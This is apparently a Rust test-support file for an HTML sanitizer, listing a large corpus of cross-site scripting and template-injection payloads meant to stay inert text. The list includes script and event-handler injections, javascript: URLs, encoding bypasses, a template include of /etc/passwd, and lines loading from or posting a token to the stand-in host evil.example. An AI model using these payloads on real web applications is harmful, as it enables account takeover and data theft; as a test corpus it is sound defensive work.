//! Texts that have run as scripts somewhere: what strangers may write, and what must never be more than text on the page.
//! Must not know where they are put. Bounds: the lists below.

#![allow(dead_code, reason = "each test file uses a part of it")]

mod markup;
mod words;

/// Least number of them.
const COUNT_MIN: usize = 300;

/// All of them.
pub(crate) fn payloads() -> Vec<&'static str> {
    let all: Vec<_> = ALL.iter().flat_map(|payloads| payloads.iter().copied()).collect();
    assert!(all.len() >= COUNT_MIN, "{} payloads", all.len());
    all
}

const ALL: [&[&str]; 10] = [
    CLASSICS,
    markup::TAGS,
    markup::HANDLERS,
    markup::FOREIGN,
    markup::MUTATION,
    words::BREAKS,
    words::ADDRESSES,
    words::CODES,
    words::TEMPLATES,
    words::CLOBBERING,
];

/// Some of each kind, the shortest and best known.
const CLASSICS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\u{c}>alert(1)</script>",
    "<script>alert(1)//",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror\n=\nalert(1)>",
    "<img/src=`x`onerror=alert(1)>",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\"\\>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert&#40;1)</script>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href=data:image/svg+xml,x#y>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x",
    "<math><mtext><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<form action=//evil.example><input name=token>",
    "<button formaction=javascript:alert(1)>x",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example/>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea></textarea><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</li></ol></section><script>alert(1)</script>",
    "</bdi><img src=x onerror=alert(1)>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=alert(1) x=\"",
    "\" style=\"background:url(//evil.example)",
    "x\" formaction=\"javascript:alert(1)",
    "--><script>alert(1)</script><!--",
    "<!--<img src=\"--><img src=x onerror=alert(1)>",
    "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>",
    "<?xml version=\"1.0\"?><x/>",
    "<x onclick=alert(1)>click</x>",
    "<div style=position:fixed;inset:0>over all</div>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
    "{{constructor.constructor('alert(1)')()}}",
    "{% include \"/etc/passwd\" %}",
    "javascript:alert(1)",
    "javascript://example.com/%0aalert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "http://example.com/\"onmouseover=\"alert(1)",
    "http://example.com/'><script>alert(1)</script>",
    "https://example.com/<img src=x onerror=alert(1)>",
    "http://javascript:alert(1)@example.com/",
    "[x](javascript:alert(1))",
    "<a href=http://example.com>http://example.com</a>",
    "\u{0}<script>alert(1)</script>",
    "<\u{0}script>alert(1)</script>",
    "\u{202e}<script>alert(1)</script>",
    "\u{2028}<script>alert(1)</script>",
    "<bdo dir=rtl>x</bdo><plaintext>",
];
